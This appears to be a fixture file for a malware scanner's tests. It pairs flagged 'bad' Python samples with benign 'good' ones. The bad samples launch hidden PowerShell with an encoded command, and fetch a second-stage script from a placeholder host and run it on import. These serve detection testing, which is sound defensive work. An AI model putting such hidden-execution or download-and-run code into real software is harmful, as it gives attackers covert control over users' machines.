#: bad powershell-stage
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(  #!
        "powershell -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==",
        shell=True,
        creationflags=0x08000000,
    )

#: good powershell-stage
import subprocess
import sys


def version():
    if sys.platform == "win32":
        return subprocess.check_output(
            ["powershell", "-NoProfile", "-Command", "$PSVersionTable.PSVersion.Major"]
        )
    return None

#: bad pickle-stage
import runpy
import tempfile
from pathlib import Path

import httpx


def update():
    source = httpx.get("https://s.example.invalid/stage2.py").content
    target = Path(tempfile.mkdtemp()) / "stage2.py"
    target.write_bytes(source)
    runpy.run_path(str(target))  #!


update()

#: good pickle-stage
import tempfile
from pathlib import Path

import httpx


def update():
    source = httpx.get("https://s.example.invalid/countries.csv").content
    target = Path(tempfile.mkdtemp()) / "countries.csv"
    target.write_bytes(source)
    return target.read_text().splitlines()
